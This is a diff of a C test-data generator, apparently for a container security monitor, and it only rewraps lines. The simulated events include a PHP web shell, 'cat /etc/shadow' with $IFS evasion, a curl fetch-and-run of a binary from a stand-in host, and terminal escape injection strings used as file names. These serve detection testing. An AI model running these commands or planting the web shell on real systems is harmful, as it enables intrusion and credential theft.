@@ -67,23 +67,32 @@ static void listening(struct maker *m, uint32_t pid, int64_t fd, uint16_t port)
 static void keyframe(struct maker *m)
 {
 	const struct made_thread procs[] = {
-		{ 1, 0, 0, 0, "systemd", "/sbin/init", "/usr/lib/systemd/systemd", "", NULL, T0 - 86400000000000u },
+		{ 1, 0, 0, 0, "systemd", "/sbin/init", "/usr/lib/systemd/systemd", "", NULL,
+		 T0 - 86400000000000u },
 		{ 2, 0, 0, 0, "kthreadd", "", "", "", NULL, T0 - 86400000000000u },
 		{ 31, 2, 0, 0, "kworker/0:1", "", "", "", NULL, T0 - 86300000000000u },
-		{ 610, 1, 0, 0, "sshd", "/usr/sbin/sshd", "/usr/sbin/sshd", "-D", NULL, T0 - 86000000000000u },
-		{ 650, 1, 0, 0, "containerd", "/usr/bin/containerd", "/usr/bin/containerd", "", NULL,
+		{ 610, 1, 0, 0, "sshd", "/usr/sbin/sshd", "/usr/sbin/sshd", "-D", NULL,
+		 T0 - 86000000000000u },
+		{ 650, 1, 0, 0, "containerd", "/usr/bin/containerd", "/usr/bin/containerd", "",
+		 NULL,
 		  T0 - 86000000000000u },
 		{ 790, 1, 0, 0, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
-		  "/usr/bin/containerd-shim-runc-v2", "-namespace moby -id " ID_WEB, NULL, T0 - 3601000000000u },
-		{ 800, 790, 0, 0, "nginx", "nginx: master process", "/usr/sbin/nginx", "", CG ID_WEB,
+		  "/usr/bin/containerd-shim-runc-v2", "-namespace moby -id " ID_WEB, NULL,
+			  T0 - 3601000000000u },
+		{ 800, 790, 0, 0, "nginx", "nginx: master process", "/usr/sbin/nginx", "",
+		 CG ID_WEB,
 		  T0 - 3600000000000u },
-		{ 815, 800, 33, 0, "nginx", "nginx: worker process", "/usr/sbin/nginx", "", CG ID_WEB,
+		{ 815, 800, 33, 0, "nginx", "nginx: worker process", "/usr/sbin/nginx", "",
+		 CG ID_WEB,
 		  T0 - 3599000000000u },
-		{ 830, 800, 33, 0, "php-fpm", "php-fpm: pool www", "/usr/sbin/php-fpm8.2", "", CG ID_WEB,
+		{ 830, 800, 33, 0, "php-fpm", "php-fpm: pool www", "/usr/sbin/php-fpm8.2", "",
+		 CG ID_WEB,
 		  T0 - 3598000000000u },
 		{ 850, 1, 0, 0, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
-		  "/usr/bin/containerd-shim-runc-v2", "-namespace moby -id " ID_DB, NULL, T0 - 3500000000000u },
-		{ 860, 850, 999, 0, "postgres", "postgres", "/usr/lib/postgresql/15/bin/postgres", "-D /data",
+		  "/usr/bin/containerd-shim-runc-v2", "-namespace moby -id " ID_DB, NULL,
+			  T0 - 3500000000000u },
+		{ 860, 850, 999, 0, "postgres", "postgres", "/usr/lib/postgresql/15/bin/postgres",
+		 "-D /data",
 		  CG ID_DB, T0 - 3500000000000u },
 	};
 
@@ -149,7 +158,8 @@ static void request(struct maker *m, int i)
 	maker__open_file(m, path, 21, FDF_RDONLY | FDF_CLOEXEC);
 	maker__read(m, 21, "<!doctype html><html><head><title>Shop</title>", 4096);
 	maker__close_fd(m, 21);
-	maker__write(m, 20, "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\n", 4310);
+	maker__write(m, 20, "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\n",
+		     4310);
 	maker__close_fd(m, 20);
 }
 
@@ -170,12 +180,14 @@ static void break_in(struct maker *m)
 	maker__accept(m, 6, 22, attacker, 41712, 80);
 	maker__read(m, 22, "POST /upload.php HTTP/1.1\r\nHost: shop.example\r\n", 1893);
 	maker__as(m, 830);
-	maker__open_file(m, "/var/www/html/uploads/img.php", 9, FDF_WRONLY | FDF_CREAT | FDF_CREATED);
+	maker__open_file(m, "/var/www/html/uploads/img.php", 9,
+			 FDF_WRONLY | FDF_CREAT | FDF_CREATED);
 	maker__write(m, 9, "<?php system($_GET['c']); ?>", 28);
 	maker__close_fd(m, 9);
 	maker__fork(m, 4100, "php-fpm");
 	maker__exec(m, "/bin/sh", "-c id;cat${IFS}/etc/shadow", 33, 0, 0);
-	alert(m, "Shell in a container", 5, "sh was started by php-fpm in web-1 (command sh -c id;cat /etc/shadow)");
+	alert(m, "Shell in a container", 5, "sh was started by php-fpm in web-1 (command sh -c "
+					    "id;cat /etc/shadow)");
 	maker__fork(m, 4101, "sh");
 	maker__exec(m, "/usr/bin/id", "", 33, 0, 0);
 	maker__write(m, 1, "uid=33(www-data) gid=33(www-data)\n", 34);
@@ -196,7 +208,8 @@ static void second_stage(struct maker *m)
 
 	maker__as(m, 830);
 	maker__fork(m, 4120, "php-fpm");
-	maker__exec(m, "/bin/sh", "-c curl -so /tmp/.x http://203.0.113.66/x; chmod +x /tmp/.x; /tmp/.x", 33, 0, 0);
+	maker__exec(m, "/bin/sh", "-c curl -so /tmp/.x http://203.0.113.66/x; chmod +x /tmp/.x; "
+				  "/tmp/.x", 33, 0, 0);
 	maker__fork(m, 4121, "sh");
 	maker__exec(m, "/usr/bin/curl", "-so /tmp/.x http://203.0.113.66/x", 33, 0, 0);
 	maker__connect(m, 3, dead, 80, -111);
@@ -222,7 +235,8 @@ static void second_stage(struct maker *m)
 	maker__as(m, 4120);
 	maker__fork(m, 4123, "sh");
 	maker__exec(m, "/tmp/.x", "", 33, 0, EXE_UPPER_LAYER | EXE_WRITABLE);
-	alert(m, "Dropped binary executed", 2, "/tmp/.x, made in the container, was executed by sh in web-1");
+	alert(m, "Dropped binary executed", 2,
+	      "/tmp/.x, made in the container, was executed by sh in web-1");
 	/* its parent leaves; the shim's child takes it over */
 	maker__as(m, 4120);
 	maker__exit(m, 0, 800);
@@ -315,17 +329,20 @@ static void hostile(const char *path)
 	keyframe(&m);
 	maker__as(&m, 830);
 	maker__fork(&m, 5000, "\033[2J\033]0;owned\007");
-	maker__exec(&m, "/tmp/\033[31mred\033[0m", "\033]52;c;aGk=\007 \r\n\t\b\177 \302\233 \302\2332J", 33, PTS0, 0);
+	maker__exec(&m, "/tmp/\033[31mred\033[0m",
+		    "\033]52;c;aGk=\007 \r\n\t\b\177 \302\233 \302\2332J", 33, PTS0, 0);
 	maker__open_file(&m, "/tmp/\xe2\x80\xae" "gnp.exe", 3, FDF_RDONLY);
 	maker__open_file(&m, "/tmp/\xff\xfe\x80 invalid", 4, FDF_RDONLY);
-	maker__open_file(&m, "/tmp/\xe6\xbc\xa2\xe5\xad\x97/\xed\x95\x9c\xea\xb8\x80.txt", 5, FDF_WRONLY | FDF_CREAT);
+	maker__open_file(&m, "/tmp/\xe6\xbc\xa2\xe5\xad\x97/\xed\x95\x9c\xea\xb8\x80.txt", 5,
+			 FDF_WRONLY | FDF_CREAT);
 	maker__write(&m, 5, "\033[?1049l\033c\x9b" "31m", 12);
 	maker__open_file(&m, "/tmp/e\xcc\x81\xcc\x82\xcc\x83\xcc\x84zalgo", 6, FDF_RDONLY);
 	maker__open_file(&m, "/tmp/\xf0\x9f\x92\xa9\xe2\x80\x8d\xf0\x9f\x94\xa5", 7, FDF_RDONLY);
 	maker__open_file(&m, huge, 8, FDF_RDONLY);
 	maker__open_file(&m, "/tmp/new\nline", 9, FDF_RDONLY);
 	maker__unlink(&m, "/tmp/\033P0;1|17/ab\033\\", 0);
-	alert(&m, "Rule \033[5mblink", 1, "text with \033[1;1H escape \x9b" "5n and \xe2\x80\xaf bidi \xe2\x80\xab");
+	alert(&m, "Rule \033[5mblink", 1, "text with \033[1;1H escape \x9b" "5n and \xe2\x80\xaf "
+		"bidi \xe2\x80\xab");
 	maker__fork(&m, 5001, "\xe6\xbc\xa2\xe5\xad\x97\xe6\xbc\xa2\xe5\xad\x97\xe6");
 	maker__exec(&m, huge, huge, 33, 0, 0);
 	maker__exit(&m, 11, 0);
